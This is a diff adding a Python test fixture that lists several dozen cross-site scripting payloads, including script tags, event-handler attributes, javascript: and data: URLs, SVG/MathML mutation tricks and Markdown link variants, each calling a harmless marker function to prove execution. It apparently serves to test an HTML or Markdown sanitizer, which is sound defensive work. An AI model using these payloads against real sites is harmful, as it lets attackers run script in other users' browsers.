@@ -1,0 +1,57 @@
+"""What a learner may try, to run a script in the browser of whoever reads a page. Each calls `hit` if it runs."""
+
+from __future__ import annotations
+
+# Most run as they are in a bare page; the test makes sure that many do.
+HTML = [
+    "<script>hit(N)</script>",
+    "<ScRiPt >hit(N)</sCrIpT>",
+    "<scr<script>ipt>hit(N)</scr</script>ipt>",
+    "<img src=x onerror=hit(N)>",
+    "<img src=x onerror='hit(N)'//",
+    "<img/src='x'/onerror=hit(N)>",
+    "<IMG SRC=x ONERROR=&#104;it(N)>",
+    "<img src='x' onerror\n=\nhit(N)>",
+    "<svg onload=hit(N)></svg>",
+    "<svg><script>hit(N)</script></svg>",
+    "<svg><animate onbegin=hit(N) attributeName=x dur=1s></svg>",
+    "<svg><a><set attributeName=href onbegin=hit(N) to=x /></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=hit(N)></style></mglyph></table></mtext></math>",
+    "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
+    "<iframe src='javascript:parent.hit(N)'></iframe>",
+    "<object data='data:text/html,<script>hit(N)</script>'></object>",
+    "<embed src='javascript:hit(N)'>",
+    "<details open ontoggle=hit(N)><summary>x</summary></details>",
+    "<input autofocus onfocus=hit(N)>",
+    "<select autofocus onfocus=hit(N)></select>",
+    "<textarea autofocus onfocus=hit(N)></textarea>",
+    "<video><source onerror=hit(N)></video>",
+    "<video src=x onerror=hit(N)></video>",
+    "<audio src=x onerror=hit(N)></audio>",
+    "<body onload=hit(N)>",
+    "<body onpageshow=hit(N)>",
+    "<style>@keyframes k{from{top:0}}</style><p style='animation:k 1s' onanimationstart=hit(N)>x</p>",
+    "<style onload=hit(N)></style>",
+    "<link rel=stylesheet href=x onerror=hit(N)>",
+    "<marquee onstart=hit(N)>x</marquee>",
+    "<noscript><p title='</noscript><img src=x onerror=hit(N)>'></noscript>",
+    "<template><script>hit(N)</script></template><img src=x onerror=hit(N)>",
+    "</pre></div></section></main><script>hit(N)</script>",
+    "--><script>hit(N)</script><!--",
+    "]]><script>hit(N)</script>",
+    "<a href='javascript:hit(N)' class=click>x</a>",
+    "<a href=' &#1;java\nscript:hit(N)' class=click>x</a>",
+    "<a href='data:text/html,<script>opener.hit(N)</script>' target=_blank class=click>x</a>",
+    "<form action='javascript:hit(N)'><button class=click>x</button></form>",
+    "<button onclick=hit(N) class=click>x</button>",
+    "<p onmouseover=hit(N) class=click>x</p>",
+    "<base href='javascript:/a/-hit(N)//'><a href='#' class=click>x</a>",
+    "<meta http-equiv=refresh content='0;url=javascript:hit(N)'>",
+]
+MARKDOWN = [
+    "[x](javascript:hit(N))",
+    '![x](x"onerror="hit(N))',
+    "<javascript:hit(N)>",
+    "$\\href{javascript:hit(N)}{x}$",
+]
+PAYLOADS = [text.replace("(N)", f"({number})") for number, text in enumerate([*HTML, *MARKDOWN])]
